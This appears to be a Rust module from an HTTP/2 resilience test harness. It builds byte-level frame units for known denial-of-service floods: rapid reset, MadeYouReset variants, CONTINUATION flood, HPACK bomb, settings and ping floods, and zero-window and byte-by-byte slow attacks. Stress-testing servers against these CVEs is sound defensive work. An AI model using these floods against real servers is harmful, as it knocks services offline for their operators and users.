//! The floods, each as the unit that is sent over and over. Known under the names rapid reset (CVE-2023-44487), `MadeYouReset`
//! (CVE-2025-8671), CONTINUATION flood (CVE-2024-27316), and empty frames, settings and ping floods (CVE-2019-9511 to
//! CVE-2019-9518).
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, SETTINGS, Target, WINDOW_UPDATE, frame, integer, literal,
    reset, stream,
};

type Unit = Box<dyn Fn(&Target, u32) -> Vec<u8> + Send + Sync>;

/// One flood.
pub(super) struct Flood {
    pub(super) name: &'static str,
    /// How many units there are to be.
    pub(super) goal: usize,
    /// How many go on one connection.
    pub(super) each: u32,
    /// How many go at once.
    pub(super) batch: u32,
    pub(super) settings: Vec<u8>,
    pub(super) opening: fn(&Target) -> Vec<u8>,
    pub(super) unit: Unit,
    /// Whether the flooder reads nothing.
    pub(super) deaf: bool,
}

fn new(
    (name, goal): (&'static str, usize),
    opening: fn(&Target) -> Vec<u8>,
    unit: impl Fn(&Target, u32) -> Vec<u8> + Send + Sync + 'static,
) -> Flood {
    let unit = Box::new(unit);
    Flood { name, goal, each: u32::MAX, batch: 50, settings: Vec::new(), opening, unit, deaf: false }
}

const fn nothing(_: &Target) -> Vec<u8> {
    Vec::new()
}

/// A request whose body is still to come.
fn half_open(target: &Target) -> Vec<u8> {
    target.post(stream(0), "/never")
}

/// A head that never ends.
fn endless(target: &Target) -> Vec<u8> {
    frame(HEADERS, 0, stream(0), &target.head("GET", "/quick"))
}

/// A request, and then what makes the other side reset it.
fn provoke(name: &'static str, provocation: fn(&Target, u32) -> Vec<u8>) -> Flood {
    new((name, 5_000), nothing, move |target, n| {
        [target.get(stream(n), "/never"), provocation(target, stream(n))].concat()
    })
}

/// Fills the table once, then names its entry as often as one frame can.
fn swollen(target: &Target, n: u32) -> Vec<u8> {
    let mut block = target.head("GET", "/quick");
    // A field that goes into the table (RFC 7541 §6.2.1), and 12,000 times the newest entry (§6.1).
    block.extend([0x40, 1, b'x']);
    block.extend(integer(0, 7, 3_900));
    block.extend(vec![b'a'; 3_900]);
    block.extend(vec![0xbe; 12_000]);
    frame(HEADERS, END_HEADERS | super::END_STREAM, stream(n), &block)
}

/// All of them.
pub(super) fn floods() -> Vec<Flood> {
    let mut all = resets();
    all.extend(heads());
    all.extend(controls());
    all.extend(slow());
    all
}

fn resets() -> Vec<Flood> {
    vec![
        new(("rapid reset", 20_000), nothing, |target, n| [target.get(stream(n), "/never"), reset(stream(n))].concat()),
        provoke("made you reset: window update of 0", |_, s| frame(WINDOW_UPDATE, 0, s, &[0; 4])),
        provoke("made you reset: window beyond its limit", |_, s| {
            frame(WINDOW_UPDATE, 0, s, &0x7fff_ffff_u32.to_be_bytes())
        }),
        provoke("made you reset: head after the end", |target, s| target.get(s, "/never")),
        provoke("made you reset: data after the end", |_, s| frame(DATA, 0, s, b"x")),
        provoke("made you reset: priority of a wrong size", |_, s| frame(PRIORITY, 0, s, &[0; 4])),
        provoke("made you reset: depends on itself", |_, s| {
            frame(PRIORITY, 0, s, &[&s.to_be_bytes()[..], &[1]].concat())
        }),
        new(("made you reset: more body than announced", 5_000), nothing, |target, n| {
            let mut head = target.head("POST", "/never");
            head.extend(literal("content-length", "1"));
            let head = frame(HEADERS, END_HEADERS, stream(n), &head);
            [head, frame(DATA, 0, stream(n), b"xyz")].concat()
        }),
    ]
}

fn heads() -> Vec<Flood> {
    vec![
        new(("continuation without end", 100_000), endless, |_, n| {
            frame(CONTINUATION, 0, stream(0), &literal("x-field", &n.to_string()))
        }),
        new(("empty continuation", 100_000), endless, |_, _| frame(CONTINUATION, 0, stream(0), b"")),
        Flood { batch: 1, ..new(("HPACK bomb", 500), nothing, swollen) },
        new(("priority", 100_000), nothing, |_, n| frame(PRIORITY, 0, stream(n % 1_000), &[0, 0, 0, 0, 9])),
    ]
}

fn controls() -> Vec<Flood> {
    let settings = |_: &Target, n: u32| frame(SETTINGS, 0, 0, &[&[0, 4][..], &(65_535 + n % 2).to_be_bytes()].concat());
    let ping = |_: &Target, n: u32| frame(PING, 0, 0, &u64::from(n).to_be_bytes());
    vec![
        new(("empty data", 200_000), half_open, |_, _| frame(DATA, 0, stream(0), b"")),
        new(("settings", 100_000), nothing, settings),
        new(("ping", 100_000), nothing, ping),
        // Whoever reads nothing is soon not read either.
        Flood { deaf: true, each: 100_000, ..new(("settings, answers unread", 100_000), nothing, settings) },
        Flood { deaf: true, each: 100_000, ..new(("ping, answers unread", 100_000), nothing, ping) },
    ]
}

fn slow() -> Vec<Flood> {
    vec![
        // SETTINGS_INITIAL_WINDOW_SIZE 0: answers may not be sent.
        Flood {
            settings: [&[0, 4][..], &[0; 4]].concat(),
            each: 2_000,
            ..new(("no window, 2,000 streams", 2_000), nothing, |target, n| target.get(stream(n), "/big"))
        },
        Flood {
            each: 200_000,
            batch: 1_000,
            ..new(
                ("a body byte by byte, to a vendor who reads nothing", 200_000),
                |target| target.post(stream(0), "/deaf"),
                |_, _| frame(DATA, 0, stream(0), b"x"),
            )
        },
        Flood {
            each: 4_000,
            batch: 100,
            ..new(("100 streams with a body byte by byte", 4_000), nothing, |target, n| {
                let begun = if n < 100 { target.post(stream(n), "/never") } else { Vec::new() };
                [begun, frame(DATA, 0, stream(n % 100), b"x")].concat()
            })
        },
    ]
}
